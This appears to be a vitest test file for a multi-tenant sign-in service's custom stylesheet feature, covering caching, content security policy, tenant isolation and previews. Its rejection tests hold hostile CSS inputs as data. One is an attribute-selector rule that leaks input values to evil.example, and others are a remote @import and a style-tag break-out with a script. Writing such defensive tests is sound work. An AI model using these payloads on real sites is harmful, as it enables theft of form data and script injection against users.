// A tenant's own style sheet over HTTP: on its own pages, as a file of its own, and nothing that was refused is stored.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildTestApp, type TestApp } from '../../testing/test-app.ts';

let app: TestApp;
let token: string;

beforeAll(async () => {
  app = await buildTestApp();
  token = await app.managementToken();
});
afterAll(() => app.close());

const patch = async (branding: object) => {
  const response = await app.fetch('/api/sign-in-experience', {
    method: 'PATCH',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ branding }),
  });
  return { status: response.status, json: (await response.json()) as Record<string, never> };
};
const page = async (base = '') => (await app.fetch(`${base}/sign-in/nothing-here`)).text();
const sheetOf = (html: string) => /href="([^"]*\/assets\/custom\.[\w-]{16}\.css)"/.exec(html)?.[1];

test('it follows the sheets of Gatehouse as a file that browsers keep until it changes', async () => {
  expect((await patch({ customCss: '.card { border: 3px solid }', primaryColor: '#123456' })).status).toBe(
    200,
  );
  const html = await page();
  const address = sheetOf(html)!;
  expect(html.indexOf(address)).toBeGreaterThan(html.indexOf('--fill:#123456'));
  const sheet = await app.fetch(address);
  expect(await sheet.text()).toBe('.card { border: 3px solid }');
  expect(sheet.headers.get('content-type')).toBe('text/css; charset=utf-8');
  expect(sheet.headers.get('cache-control')).toContain('immutable');
  expect(sheet.headers.get('x-content-type-options')).toBe('nosniff');
  await patch({ customCss: '.card { border: 0 }' });
  expect(sheetOf(await page())).not.toBe(address);
  const old = await app.fetch(address);
  expect([await old.text(), old.headers.get('cache-control')]).toEqual(['.card { border: 0 }', 'no-store']);
});

test('the policy of the pages stays as strict: styles from here alone, no inline ones but the colours', async () => {
  await patch({ customCss: '.a { color: red }' });
  const policy = (await app.fetch('/sign-in/nothing-here')).headers.get('content-security-policy')!;
  expect(policy).toMatch(/style-src 'self'( 'sha256-[^']+')?;/);
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toContain('unsafe-inline');
});

test("another tenant's pages have none of it", async () => {
  await patch({ customCss: '.mine { color: red }' });
  expect(sheetOf(await page('/t/admin'))).toBeUndefined();
  expect((await app.fetch(`/t/admin${sheetOf(await page())}`)).status).toBe(404);
});

test('null takes it away, and its address with it', async () => {
  await patch({ customCss: '.a { color: red }' });
  const address = sheetOf(await page())!;
  await patch({ customCss: null });
  expect(sheetOf(await page())).toBeUndefined();
  expect((await app.fetch(address)).status).toBe(404);
});

describe('refused and not stored', () => {
  test.each([
    ['stored CSS that exfiltrates', 'input[value^=a] { background: url(https://evil.example/a) }'],
    ['stored CSS that loads elsewhere', '@import "https://evil.example/x.css";'],
    ['stored CSS that leaves its element', '</style><script>alert(1)</script>'],
    ['stored CSS without end', `/*${'x'.repeat(21_000)}*/`],
  ])('%s', async (_, customCss) => {
    const before = await app.experience.read(app.tenant.db);
    const { status, json } = await patch({ customCss });
    expect(status).toBe(400);
    expect(JSON.stringify(json)).toContain('"path":"branding.customCss"');
    expect(await app.experience.read(app.tenant.db)).toEqual(before);
  });
});

test('a draft has its own, in the colour scheme that is shown, under an address that ends with it', async () => {
  const customCss = '@media (prefers-color-scheme: dark) { .card { color: red } }';
  const response = await app.fetch('/api/sign-in-experience/preview', {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ experience: { branding: { customCss } }, page: 'sign-in', colorScheme: 'dark' }),
  });
  const { url } = (await response.json()) as { url: string };
  const html = await (await fetch(url)).text();
  const address = /href="([^"]*\/custom\.css)"/.exec(html)?.[1];
  const sheet = await app.fetch(address!);
  expect(await sheet.text()).toBe('@media (min-width:0) { .card { color: red } }');
  expect(sheet.headers.get('cache-control')).toBe('no-store');
  expect((await app.fetch(`/sign-in-preview/${'A'.repeat(43)}/custom.css`)).status).toBe(404);
});
